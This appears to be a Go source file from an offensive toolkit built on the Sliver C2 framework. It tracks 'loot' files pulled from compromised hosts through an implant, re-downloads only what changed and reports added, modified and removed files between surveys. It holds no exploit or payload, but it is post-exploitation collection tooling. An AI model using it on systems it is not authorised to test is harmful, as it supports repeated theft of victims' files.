@@ -0,0 +1,314 @@
+package main
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path"
+	"path/filepath"
+	"sort"
+	"time"
+
+	"common"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/jedib0t/go-pretty/v6/table"
+)
+
+// the manifest sits at the root of a hosts loot directory and describes every file collected from it
+const manifestName = "manifest.json"
+
+// the kinds of change between two surveys of a host
+const (
+	changeAdded    = "added"
+	changeModified = "modified"
+	changeRemoved  = "removed"
+)
+
+// manifestEntry is a file collected from the target as it was when it was downloaded
+type manifestEntry struct {
+	Size    int64     `json:"size"`
+	ModTime int64     `json:"mod_time"`
+	Mode    string    `json:"mode,omitempty"`
+	SHA256  string    `json:"sha256"`
+	Fetched time.Time `json:"fetched"`
+}
+
+// lootChange is a file that was added, modified or removed since the last survey
+type lootChange struct {
+	Kind   string `json:"kind"`
+	Path   string `json:"path"`
+	Detail string `json:"detail,omitempty"`
+}
+
+// lootManifest records what the last survey of a host collected so the next one only downloads
+// what changed. It is keyed by the path on the target
+type lootManifest struct {
+	Host    string                    `json:"host"`
+	Updated time.Time                 `json:"updated"`
+	Files   map[string]*manifestEntry `json:"files"`
+	Changes []lootChange              `json:"changes"`
+
+	path      string
+	refetch   bool
+	previous  map[string]*manifestEntry
+	seen      map[string]bool
+	missing   map[string]bool
+	listings  map[string][]manifestListing
+	unchanged int
+}
+
+// manifestListing is what one directory listing showed, pattern is the glob the listing was
+// made with so a file it could not have shown is not taken for removed
+type manifestListing struct {
+	pattern string
+	names   map[string]bool
+}
+
+// Function to load the manifest of a hosts loot directory, a host that was never surveyed
+// starts with an empty one
+//
+// :param: fileTag string -> the loot directory of the target
+// :param: host string -> the hostname of the target
+// :return: *lootManifest -> the manifest, never nil
+// :return: error -> if a manifest exists but can not be read, the returned manifest is empty
+func loadManifest(fileTag string, host string) (*lootManifest, error) {
+	m := &lootManifest{
+		Host:     host,
+		Files:    map[string]*manifestEntry{},
+		path:     filepath.Join(fileTag, manifestName),
+		seen:     map[string]bool{},
+		missing:  map[string]bool{},
+		listings: map[string][]manifestListing{},
+	}
+	data, err := os.ReadFile(m.path)
+	if errors.Is(err, os.ErrNotExist) {
+		return m, nil
+	}
+	if err != nil {
+		return m, err
+	}
+	var last lootManifest
+	if err := json.Unmarshal(data, &last); err != nil {
+		return m, fmt.Errorf("reading %s: %v", m.path, err)
+	}
+	m.previous = last.Files
+	return m, nil
+}
+
+// Function to determine if the copy of a file from the last survey is still current, judged by
+// the size and modification time the implant lists for it
+//
+// :param: remotePath string -> the file on the target
+// :param: fi *sliverpb.FileInfo -> its entry from a directory listing, nil if it was not listed
+// :param: fileTag string -> the loot directory of the target
+// :return: bool -> true if downloading it again would get the same file
+func (m *lootManifest) current(remotePath string, fi *sliverpb.FileInfo, fileTag string) bool {
+	previous, ok := m.previous[remotePath]
+	if m.refetch || !ok || fi == nil || previous.Size != fi.Size || previous.ModTime != fi.ModTime {
+		return false
+	}
+	// the loot directory may have been cleaned up since
+	info, err := os.Stat(filepath.Join(fileTag, remotePath))
+	return err == nil && info.Size() == previous.Size
+}
+
+// Function to keep the entry of a file that was not downloaded again because it is current
+func (m *lootManifest) keep(remotePath string) {
+	m.seen[remotePath] = true
+	m.Files[remotePath] = m.previous[remotePath]
+	m.unchanged++
+}
+
+// Function to record a file that was downloaded, comparing it with the last survey
+//
+// :param: remotePath string -> the file on the target
+// :param: fi *sliverpb.FileInfo -> its entry from a directory listing, nil if it was not listed
+// :param: result *transferResult -> the download
+// :return: None
+func (m *lootManifest) record(remotePath string, fi *sliverpb.FileInfo, result *common.TransferResult) {
+	entry := &manifestEntry{Size: result.Size, SHA256: result.SHA256, Fetched: time.Now().UTC()}
+	if fi != nil {
+		entry.ModTime = fi.ModTime
+		entry.Mode = fi.Mode
+	}
+	m.seen[remotePath] = true
+	m.Files[remotePath] = entry
+
+	previous, ok := m.previous[remotePath]
+	switch {
+	case m.previous == nil:
+		// the first survey of the host, everything is new so there is nothing worth reporting
+	case !ok:
+		m.Changes = append(m.Changes, lootChange{Kind: changeAdded, Path: remotePath, Detail: fmt.Sprintf("%d bytes", entry.Size)})
+	case previous.SHA256 != entry.SHA256:
+		m.Changes = append(m.Changes, lootChange{Kind: changeModified, Path: remotePath, Detail: describeChange(previous, entry)})
+	default:
+		m.unchanged++
+	}
+}
+
+// Function to describe how a file changed between two surveys
+func describeChange(previous *manifestEntry, entry *manifestEntry) string {
+	detail := "content changed"
+	if previous.Size != entry.Size {
+		detail = fmt.Sprintf("size %d -> %d", previous.Size, entry.Size)
+	}
+	if previous.ModTime != 0 && entry.ModTime != 0 && previous.ModTime != entry.ModTime {
+		detail += fmt.Sprintf(", modified %s", time.Unix(entry.ModTime, 0).UTC().Format("2006-01-02 15:04:05"))
+	}
+	return detail
+}
+
+// Function to record a file the target told us does not exist
+func (m *lootManifest) gone(remotePath string) {
+	m.missing[remotePath] = true
+}
+
+// Function to record what a directory listing showed, a file from the last survey missing
+// from it has been removed
+//
+// :param: dir string -> the directory that was listed
+// :param: pattern string -> the glob of names the listing was made with, "*" for all of them
+// :param: files []*sliverpb.FileInfo -> the entries of the listing
+// :return: None
+func (m *lootManifest) listed(dir string, pattern string, files []*sliverpb.FileInfo) {
+	names := map[string]bool{}
+	for _, fi := range files {
+		names[fi.Name] = true
+	}
+	dir = path.Clean(dir)
+	m.listings[dir] = append(m.listings[dir], manifestListing{pattern: pattern, names: names})
+}
+
+// Function to determine if a file from the last survey is gone, either the target said so or a
+// listing of it or one of its parent directories should have shown it and did not
+func (m *lootManifest) removed(remotePath string) bool {
+	if m.missing[remotePath] {
+		return true
+	}
+	dir, child := path.Dir(remotePath), path.Base(remotePath)
+	for {
+		for _, listing := range m.listings[dir] {
+			if matched, _ := path.Match(listing.pattern, child); matched && !listing.names[child] {
+				return true
+			}
+		}
+		if dir == "/" || dir == "." {
+			return false
+		}
+		dir, child = path.Dir(dir), path.Base(dir)
+	}
+}
+
+// Function to finish the manifest once the survey is done and write it back to the loot
+// directory. Files from the last survey that this one did not look at (i.e. a module that was
+// skipped) are carried over as they were
+//
+// :return: error -> if the manifest could not be written
+func (m *lootManifest) save() error {
+	var carried []string
+	for remotePath := range m.previous {
+		if !m.seen[remotePath] {
+			carried = append(carried, remotePath)
+		}
+	}
+	sort.Strings(carried)
+	for _, remotePath := range carried {
+		if m.removed(remotePath) {
+			m.Changes = append(m.Changes, lootChange{Kind: changeRemoved, Path: remotePath})
+			continue
+		}
+		m.Files[remotePath] = m.previous[remotePath]
+	}
+	sort.Slice(m.Changes, func(i, j int) bool {
+		if m.Changes[i].Kind != m.Changes[j].Kind {
+			return m.Changes[i].Kind < m.Changes[j].Kind
+		}
+		return m.Changes[i].Path < m.Changes[j].Path
+	})
+
+	m.Updated = time.Now().UTC()
+	data, err := json.MarshalIndent(m, "", "  ")
+	if err != nil {
+		return err
+	}
+	if err := os.MkdirAll(filepath.Dir(m.path), 0777); err != nil {
+		return err
+	}
+	// written next to it and renamed so an interrupted write never loses the last manifest
+	if err := os.WriteFile(m.path+".tmp", data, 0644); err != nil {
+		return err
+	}
+	return os.Rename(m.path+".tmp", m.path)
+}
+
+// Function to print what changed on the target since the last survey
+//
+// :return: None
+func (m *lootManifest) printReport() {
+	makeBorder("Loot Changes")
+	if m.previous == nil {
+		fmt.Printf("[*] First survey of this host, recorded %d files in %s\n", len(m.Files), m.path)
+		return
+	}
+	if len(m.Changes) == 0 {
+		fmt.Println("[*] Nothing changed since the last survey")
+	} else {
+		tw := table.NewWriter()
+		tw.AppendHeader(table.Row{"Change", "Path", "Detail"})
+		for _, change := range m.Changes {
+			tw.AppendRow(table.Row{change.Kind, change.Path, change.Detail})
+		}
+		fmt.Printf("%s\n", tw.Render())
+	}
+	fmt.Printf("[*] %d files unchanged since %s\n", m.unchanged, m.lastUpdated())
+}
+
+// Function to get when the last survey finished, for the report
+func (m *lootManifest) lastUpdated() string {
+	var last time.Time
+	for _, entry := range m.previous {
+		if entry.Fetched.After(last) {
+			last = entry.Fetched
+		}
+	}
+	if last.IsZero() {
+		return "the last survey"
+	}
+	return last.Format("2006-01-02 15:04:05 UTC")
+}
+
+// Function to download a file into the loot directory unless the manifest says the copy from the
+// last survey is still current
+//
+// :param: targetSession *clientpb.Session -> the target session we are interacting with
+// :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
+// :param: manifest *lootManifest -> the manifest of the loot directory
+// :param: remotePath string -> the file on the target
+// :param: fi *sliverpb.FileInfo -> its entry from a directory listing, nil if it was not listed
+// :param: fileTag string -> the loot directory of the target
+// :return: error -> if the download failed
+func lootFile(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, manifest *lootManifest, remotePath string, fi *sliverpb.FileInfo, fileTag string) error {
+	if manifest.current(remotePath, fi, fileTag) {
+		manifest.keep(remotePath)
+		return nil
+	}
+	// a symlink is listed with the size of the link, not of what it points at
+	expectedSize := int64(-1)
+	if fi != nil && fi.Mode != "" && fi.Mode[0] != 'L' {
+		expectedSize = fi.Size
+	}
+	result, err := common.DownloadToFile(makeRequest(targetSession), rpc, remotePath, filepath.Join(fileTag, remotePath), expectedSize, true)
+	if err != nil {
+		printRPCError(err, remotePath)
+		if errors.Is(err, common.ErrNotFound) {
+			manifest.gone(remotePath)
+		}
+		return err
+	}
+	manifest.record(remotePath, fi, result)
+	return nil
+}